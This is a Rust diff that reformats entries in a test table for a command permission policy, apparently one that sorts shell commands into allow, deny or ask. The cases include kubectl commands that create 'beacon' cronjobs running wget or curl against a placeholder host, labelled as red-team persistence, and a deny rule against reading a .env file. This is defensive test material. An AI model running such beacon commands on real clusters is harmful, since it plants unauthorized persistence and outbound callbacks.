@@ -871,8 +871,14 @@ pub(crate) const CASES: &[Case] = &[
     allow("docker compose --env-file=.env build"),
     deny("files.deny-read", "docker compose --env-file .env config"),
     // Persistence on a cluster or a forge (red team 16, cause 3).
-    ask("kubernetes.schedule", "kubectl create cronjob beacon --image=busybox --schedule='*/5 * * * *' -- wget x.example"),
-    ask("kubernetes.schedule", "kubectl -n prod create cj beacon --image=busybox --schedule=@hourly -- sh -c 'curl x'"),
+    ask(
+        "kubernetes.schedule",
+        "kubectl create cronjob beacon --image=busybox --schedule='*/5 * * * *' -- wget x.example",
+    ),
+    ask(
+        "kubernetes.schedule",
+        "kubectl -n prod create cj beacon --image=busybox --schedule=@hourly -- sh -c 'curl x'",
+    ),
     ask("kubernetes.schedule", "oc create cronjob b --image=busybox --schedule=@daily -- true"),
     allow("kubectl create cronjob beacon --image=busybox --schedule=@hourly --dry-run=client -o yaml"),
     allow("kubectl get cronjobs"),
